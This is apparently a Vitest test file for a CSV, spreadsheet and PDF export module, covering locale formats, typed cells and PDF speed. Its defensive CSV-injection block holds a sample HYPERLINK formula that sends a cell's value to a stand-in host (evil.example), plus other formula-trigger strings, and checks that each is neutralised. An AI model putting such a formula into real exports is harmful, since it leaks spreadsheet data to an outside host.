import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { FastifyReply } from 'fastify';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { describe, expect, it } from 'vitest';
import type { ExportFormat } from '@workspace/shared/common/list-shape';
import type { Language } from '@workspace/shared/common/limits';
import { dateCell, dateTimeCell, decimalCell, moneyCell, sendExport, type ExportColumn } from './export';
import { parseCsv } from '../../test/csv-text';

/*
 * Exports people can open: a CSV in the reader's convention, a spreadsheet with typed cells, a
 * frozen and filterable header and fitted columns, and a PDF of 1,000 rows in well under 2 s whose
 * headers and amounts never break mid-word.
 */
type Row = { n: number };
const columns: ExportColumn<Row>[] = [
  { header: 'Date', value: () => dateCell('2026-03-31') },
  { header: 'Recorded at', value: () => dateTimeCell(new Date('2026-03-31T21:30:00Z')) }, // 00:30 on 1 April in Istanbul
  { header: 'Amount', value: (row) => moneyCell(`${1250 + row.n}.75`, 'TL') },
  { header: 'Estimated hours', value: () => decimalCell('7.50') },
  { header: 'Tasks', value: (row) => row.n },
  { header: 'Description of the transaction', value: (row) => `Line ${row.n}; with a semicolon, and a comma` },
];

async function* rowsOf(count: number): AsyncGenerator<Row> {
  for (let n = 0; n < count; n += 1) yield { n };
}

async function run<T = Row>(
  format: ExportFormat,
  language: Language,
  count = 3,
  table: { columns: ExportColumn<T>[]; rows: (count: number) => AsyncIterable<T> } = { columns, rows: rowsOf } as never,
): Promise<{ bytes: Buffer; headers: Record<string, string> }> {
  const headers: Record<string, string> = {};
  const chunks: Buffer[] = [];
  return new Promise((resolve, reject) => {
    const reply = {
      header(name: string, value: string) {
        headers[name] = value;
        return reply;
      },
      send(stream: NodeJS.ReadableStream) {
        stream.on('error', reject);
        stream
          .pipe(
            new Writable({
              write(chunk: Buffer, _encoding, done) {
                chunks.push(Buffer.from(chunk));
                done();
              },
            }),
          )
          .on('finish', () => resolve({ bytes: Buffer.concat(chunks), headers }));
        return reply;
      },
    } as unknown as FastifyReply;
    sendExport(reply, {
      format,
      filename: 'list',
      title: 'Transactions',
      columns: table.columns,
      rows: table.rows(count),
      reader: { language, timeZone: 'Europe/Istanbul' },
    });
  });
}

describe('CSV', () => {
  it('in English: commas, decimal points, a UTF-8 BOM, times in the company zone', async () => {
    const text = (await run('csv', 'en')).bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).trim().split(/\r?\n/);
    expect(lines[0]).toBe('Date,Recorded at,Amount,Estimated hours,Tasks,Description of the transaction');
    expect(lines[2]).toBe('2026-03-31,2026-04-01 00:30,1251.75,7.50,1,"Line 1; with a semicolon, and a comma"');
  });

  it('in Turkish: semicolons and decimal commas, as Excel reads it there', async () => {
    const lines = (await run('csv', 'tr')).bytes.toString('utf8').slice(1).trim().split(/\r?\n/);
    expect(lines[0]).toBe('Date;Recorded at;Amount;Estimated hours;Tasks;Description of the transaction');
    expect(lines[2]).toBe('2026-03-31;2026-04-01 00:30;1251,75;7,50;1;"Line 1; with a semicolon, and a comma"');
  });
});

describe('formulas', () => {
  // Text a spreadsheet would run as a formula (OWASP "CSV injection"), and typed negative numbers that must stay numbers.
  const texts = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+1+2',
    '-2+3',
    '@SUM(A1:A2)',
    '\tTab',
    '\rReturn',
    'Plain',
    "'Quoted",
  ];
  const formulaColumns: ExportColumn<string>[] = [
    { header: 'Text', value: (text) => text },
    { header: 'Amount', value: () => moneyCell('-1250.75', 'TL') },
    { header: 'Count', value: () => -3 },
    { header: 'Hours', value: () => decimalCell('-7.50') },
  ];
  const table = {
    columns: formulaColumns,
    rows: async function* () {
      yield* texts;
    },
  };
  const parse = async (language: Language) => {
    const text = (await run('csv', language, texts.length, table)).bytes.toString('utf8').slice(1);
    return parseCsv(text, language === 'tr' ? ';' : ',');
  };

  it('starts every text cell that a spreadsheet would read as a formula with a quote, in both languages', async () => {
    for (const language of ['en', 'tr'] as const) {
      const rows = (await parse(language)).slice(1);
      expect(rows.map((row) => row[0])).toEqual([
        `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\tTab",
        "'\rReturn",
        'Plain',
        "'Quoted",
      ]);
    }
  });

  it('leaves typed negative amounts, counts and decimals as numbers', async () => {
    expect((await parse('en'))[1]!.slice(1)).toEqual(['-1250.75', '-3', '-7.50']);
    expect((await parse('tr'))[1]!.slice(1)).toEqual(['-1250,75', '-3', '-7,50']);
  });

  it('writes the same text in a spreadsheet as a text cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await run('xlsx', 'en', texts.length, table)).bytes as unknown as ArrayBuffer);
    const cell = workbook.worksheets[0]!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(texts[0]);
    expect(workbook.worksheets[0]!.getRow(2).getCell(2).value).toBe(-1250.75);
  });
});

describe('XLSX', () => {
  it('types numbers and dates, freezes and filters the header, and fits the columns', async () => {
    const { bytes } = await run('xlsx', 'tr');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const row = sheet.getRow(3);
    expect(row.getCell(1).value).toEqual(new Date('2026-03-31T00:00:00Z'));
    expect(row.getCell(1).numFmt).toBe('yyyy-mm-dd');
    // The wall clock of the company: 00:30 on 1 April, whatever the reader's computer zone.
    expect(row.getCell(2).value).toEqual(new Date('2026-04-01T00:30:00Z'));
    expect(row.getCell(3).value).toBe(1251.75);
    expect(row.getCell(3).numFmt).toBe('#,##0.00" TL"');
    expect(row.getCell(4).value).toBe(7.5);
    expect(row.getCell(5).value).toBe(1);
    expect(row.getCell(5).type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:F1');
    // Widths follow the longest text: the date column is narrow, the description wide.
    expect(sheet.getColumn(1).width).toBeLessThan(15);
    expect(sheet.getColumn(6).width).toBeGreaterThan(35);
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
  });
});

describe('PDF', () => {
  async function lines(bytes: Buffer) {
    const document = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false, isEvalSupported: false })
      .promise;
    const items: string[] = [];
    for (let number = 1; number <= document.numPages; number += 1) {
      const content = await (await document.getPage(number)).getTextContent();
      // pdf.js reads the no-break space that holds an amount together as a plain space.
      items.push(
        ...content.items.map((item) => ('str' in item ? item.str.replace(/\u00a0/g, ' ') : '')).filter(Boolean),
      );
    }
    const pages = document.numPages;
    await document.destroy();
    return { items, pages };
  }

  it('writes 1,000 rows without the cost of the old table, every page headed again', async () => {
    const started = performance.now();
    const { bytes } = await run('pdf', 'en', 1000);
    const elapsed = performance.now() - started;
    // About 0.5 s on a quiet machine (pdfkit's own table took 26.5 s). The 2 s target is the bench's
    // (it fails above it); here, beside the other suites on a busy CI machine, only a return of the
    // old cost fails.
    expect(elapsed).toBeLessThan(8000);
    const { items, pages } = await lines(bytes);
    expect(pages).toBeGreaterThan(10);
    expect(items.filter((item) => item === 'Date')).toHaveLength(pages);
    expect(items).toContain('Line 999; with a semicolon, and a comma');
  });

  it('shows amounts and dates the reader’s way and never breaks a header word or an amount', async () => {
    const tr = await lines((await run('pdf', 'tr')).bytes);
    expect(tr.items).toContain('1.251,75 TL');
    expect(tr.items).toContain('31.03.2026');
    expect(tr.items).toContain('01.04.2026 00:30');
    expect(tr.items).toContain('7,5');
    const en = await lines((await run('pdf', 'en')).bytes);
    expect(en.items).toContain('1,251.75 TL');
    expect(en.items).toContain('31 Mar 2026');
    // Each header word is drawn whole: a line of a header cell holds complete words only.
    for (const header of columns.map((column) => column.header)) {
      for (const word of header.split(' ')) expect(en.items.some((item) => item.split(' ').includes(word))).toBe(true);
    }
  });
});
